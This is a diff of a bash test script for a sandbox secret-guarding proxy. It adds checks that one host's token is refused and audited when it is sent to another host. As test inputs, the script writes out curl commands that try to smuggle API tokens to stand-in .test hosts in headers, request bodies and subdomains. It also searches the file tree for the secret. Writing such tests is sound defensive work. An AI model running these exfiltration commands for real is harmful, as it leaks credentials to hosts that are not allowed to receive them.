@@ -18,12 +18,15 @@ TEST_CA=$WD/secrets/ca.pem
 rnd() { od -An -N8 -tx1 /dev/urandom | tr -d ' \n'; }
 VALUE="exgreal-$(rnd)$(rnd)"
 export API_TOKEN=$VALUE
+export OTHER_TOKEN="exgother-$(rnd)$(rnd)"
 audit=$T/audit.jsonl
 POL=$T/policy.json
 cat > "$POL" <<'JSON'
 {
-  "network": {"allowedDomains": ["api.secret.test", "bad.secret.test", "plain.test", "other.test", "allowed.test"]},
-  "secrets": [{"name": "API_TOKEN", "from": "env:API_TOKEN", "hosts": ["api.secret.test", "bad.secret.test"]}]
+  "network": {"allowedDomains": ["api.secret.test", "bad.secret.test", "other.secret.test", "plain.test", "other.test",
+                              "allowed.test"]},
+  "secrets": [{"name": "API_TOKEN", "from": "env:API_TOKEN", "hosts": ["api.secret.test", "bad.secret.test"]},
+              {"name": "OTHER_TOKEN", "from": "env:OTHER_TOKEN", "hosts": ["other.secret.test"]}]
 }
 JSON
 pol=(--policy "$POL" --audit-log "$audit")
@@ -32,6 +35,7 @@ C="curl -sS -m 15"
 server_log_count() { grep -c . "$EGW_LOG" 2>/dev/null || true; }
 # out_has_both STATUS-LINE-RE HEADER-RE: the last output has both (grep -E, the header case-insensitive).
 out_has_both() { grep -qE -- "$1" <<<"$OUT" && grep -qiE -- "$2" <<<"$OUT"; }
+out_lacks() { ! grep -qE -- "$1" <<<"$OUT"; }
 # requests_to PATH: the echo log's lines for that path.
 requests_to() { grep -F "\"path\": \"$1\"" "$SLOG" || true; }
 audit_exfil() {  # WHERE-substring HOST: an exfiltration line naming API_TOKEN, never the value
@@ -124,7 +128,7 @@ check "plain HTTP with the placeholder in the body: 403 exfiltration" \
 run sbx "${pol[@]}" -- bash -c "{ head -c 2000000 /dev/zero | tr '\\0' x; echo \"&token=\$API_TOKEN\"; } > /tmp/big; \
     $C -i --data-binary @/tmp/big http://other.test/exfil-late-body"
 check "a placeholder 2 MB into a plain-HTTP body: no answer from the server (status $STATUS)" \
-    bash -c "! grep -q '^HTTP/1.1 200' <<<'$OUT'"
+    out_lacks '^HTTP/1.1 200 OK'
 check "audit: both body placeholders logged (with the head, and 2 MB in)" \
     bash -c "test \$(grep '\"where\":\"body\"' '$audit' | grep -c API_TOKEN) -ge 2"
 run sbx "${pol[@]}" -- bash -c "$C -p \"http://\$API_TOKEN.other.test/\""
@@ -181,6 +185,28 @@ last_output_lacks "$VALUE" "the real value is not in the env, /proc/*/environ, c
 run sbx "${pol[@]}" -- bash -c "grep -rF -l '$VALUE' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null | head; echo DONE"
 # (the needle itself is on the command line: it can only be found through /proc, excluded here)
 check "a search of the sandbox's whole file tree finds no file holding the value" test "$(tr -d '\n' <<<"$OUT")" = DONE
+
+# Another host's secret inside an intercepted connection: OTHER_TOKEN's placeholder to
+# api.secret.test (in a header, then in a body) is refused; OTHER_TOKEN goes to its own host.
+run sbx "${pol[@]}" -- bash -c "$C -i -H \"X-Other: \$OTHER_TOKEN\" https://api.secret.test/foreign-header; \
+    $C -i --data-binary \"t=\$OTHER_TOKEN\" https://api.secret.test/foreign-body; echo; \
+    $C -H \"X-Other: \$OTHER_TOKEN\" https://other.secret.test/own-host"
+check "another secret's placeholder in a header and in a body to api.secret.test: 403 exfiltration twice" \
+    test "$(grep -ci '^X-ExGuardian-Refused: exfiltration' <<<"$OUT")" = 2
+check "neither foreign request reached the upstream" bash -c "! grep -q '/foreign-' '$SLOG'"
+run sbx "${pol[@]}" -- bash -c "{ head -c 1000000 /dev/zero | tr '\\0' y; echo \"&t=\$OTHER_TOKEN\"; } > /tmp/big; \
+    $C -i --data-binary @/tmp/big https://api.secret.test/foreign-late-body"
+check "another secret's placeholder 1 MB into a body: the request is cut (status $STATUS)" \
+    out_lacks '^HTTP/1.1 200 OK'
+check "what reached the upstream of it holds no placeholder" bash -c "! grep -F /foreign-late-body '$SLOG' | grep -q exg_ph_"
+check "OTHER_TOKEN reaches its own host with its value" \
+    grep -qF "[\"X-Other\", \"$OTHER_TOKEN\"]" <<<"$(requests_to /own-host)"
+check "audit: OTHER_TOKEN's exfiltration to api.secret.test (header and body)" python3 -c "
+import json
+ls = [json.loads(l) for l in open('$audit') if '\"exfiltration\"' in l]
+w = {l['where'] for l in ls if l.get('secret') == 'OTHER_TOKEN' and l.get('host') == 'api.secret.test'}
+assert 'header X-Other' in w and 'body' in w, w
+assert sum(1 for l in ls if l.get('secret') == 'OTHER_TOKEN' and l.get('where') == 'body') >= 2"
 
 # Domain fronting: a Host header naming another site (a front end routing by Host could
 # hand the value to it) is refused on an intercepted connection, nothing sent upstream.
